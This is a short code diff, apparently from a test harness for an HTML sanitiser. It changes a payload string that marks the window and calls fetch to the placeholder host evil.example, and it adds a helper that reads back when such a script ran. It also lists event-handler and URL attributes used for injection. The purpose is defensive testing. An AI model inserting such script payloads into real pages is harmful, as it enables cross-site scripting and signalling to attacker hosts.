@@ -7,7 +7,14 @@ export const plain = 'The harbour was quiet that morning'
 
 type Random = () => number
 
-const run = "window.pwned=(window.pwned||0)+1;fetch('https://evil.example/ran')"
+/** What a hostile page would have run: it marks the window, and asks for an address that says when it ran. */
+const run = "window.pwned=(window.pwned||0)+1;fetch('https://evil.example/ran?'+Date.now())"
+
+/** When the script of a hostile page that asked for this address ran, by the page's clock; null for any other address. */
+export const ranAt = (address: string): number | null => {
+  const { host, pathname, search } = new URL(address)
+  return host === 'evil.example' && pathname === '/ran' ? Number(search.slice(1)) : null
+}
 const attributes =
   'onclick onerror onload onfocus onanimationstart href src srcset style class id title alt data-src data-srcset poster action formaction xlink:href background content name lang dir is slot part itemprop itemtype role aria-label datetime value'.split(
     ' ',
